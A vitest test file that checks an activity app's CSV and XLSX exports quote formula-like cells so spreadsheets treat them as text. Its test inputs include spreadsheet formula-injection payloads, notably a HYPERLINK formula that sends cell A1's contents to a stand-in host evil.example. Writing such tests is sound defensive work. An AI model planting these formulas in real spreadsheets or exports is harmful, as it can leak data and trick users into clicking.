import { describe, expect, it } from "vitest";
import { readSheet } from "read-excel-file/universal";
import { buildReport } from "@tongxin/core/activities/stats";
import { statsWorkbook } from "@tongxin/core/activities/stats-workbook";
import { inertCell } from "@tongxin/core/exports/cells";
import { toCsv, toXlsx } from "@tongxin/core/forms/export";

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我领奖")', "=1+1", "+86 138", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];

describe("formula cells in exports", () => {
  it("a cell a spreadsheet would run as a formula is written as text with a leading quote", () => {
    for (const value of HOSTILE) expect(inertCell(value)).toBe(`'${value}`);
    for (const value of ["张三", "1+1", "a=b", "", "第1行：项目=场地费", "138-0000-0001"]) expect(inertCell(value)).toBe(value);
  });

  it("a CSV export of answers that look like formulas opens with no formula in it", () => {
    const csv = toCsv({ headers: ["=标题", "活动名称"], rows: [["s1", HOSTILE[0]!], ["s2", "=1+1"], ["s3", "普通活动"]] });
    const lines = csv.slice(1).split("\r\n");
    expect(lines[0]).toBe("'=标题,活动名称");
    expect(lines[1]).toBe(`s1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我领奖"")"`);
    expect(lines[2]).toBe("s2,'=1+1");
    expect(lines[3]).toBe("s3,普通活动");
    for (const line of lines) for (const cell of line.split(",")) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
  });

  it("an XLSX export keeps such answers as quoted text", async () => {
    const bytes = await toXlsx({ headers: ["活动名称"], rows: HOSTILE.map((value) => [value]) });
    const sheet = await readSheet(new Uint8Array(bytes).buffer);
    expect(sheet.slice(1).map((row) => row[0])).toEqual(HOSTILE.map((value) => `'${value}`));
  });

  it("an activity statistics workbook quotes an org name that starts a formula, and keeps numbers as numbers", async () => {
    const report = buildReport({
      org: { orgId: "o1", name: "=HYPERLINK(\"http://evil.example\")" },
      year: "2026",
      cells: [],
      totals: { activities: 3, attendances: 40, people: 20 },
      children: [{ orgId: "c1", name: "-1+2新空间", activities: 3, attendances: 40, people: 20 }],
    });
    const bytes = new Uint8Array(await statsWorkbook(report)).buffer;
    const overview = await readSheet(bytes, "概况");
    expect(overview[1]).toEqual(["'=HYPERLINK(\"http://evil.example\")", "2026", 3, 40, 20]);
    const byChild = await readSheet(bytes, "按下级组织");
    expect(byChild[1]).toEqual(["'-1+2新空间", 3, 40, 20]);
  });
});
